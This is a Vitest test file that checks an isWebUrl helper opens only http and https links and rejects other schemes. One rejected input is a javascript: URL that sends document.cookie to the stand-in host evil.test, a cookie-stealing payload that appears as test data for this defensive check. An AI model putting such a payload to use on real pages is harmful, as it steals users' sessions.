import { describe, expect, it } from 'vitest';
import { isWebUrl } from '../../../src/shared/text/linked-text';

describe('which links a click may open', () => {
  it('opens web pages, however the scheme is written', () => {
    expect(isWebUrl('https://status.acme.test/incidents/42')).toBe(true);
    expect(isWebUrl('HTTP://intranet.acme.test/runbook')).toBe(true);
  });

  it('never opens another scheme, even when a web address appears later in it', () => {
    expect(isWebUrl('javascript:fetch("https://evil.test/?c="+document.cookie)')).toBe(false);
    expect(isWebUrl('file:///home/dana/https://notes.txt')).toBe(false);
    expect(isWebUrl('mailto:dana@acme.test?body=http://status.acme.test')).toBe(false);
    expect(isWebUrl('https:/status.acme.test')).toBe(false);
  });
});
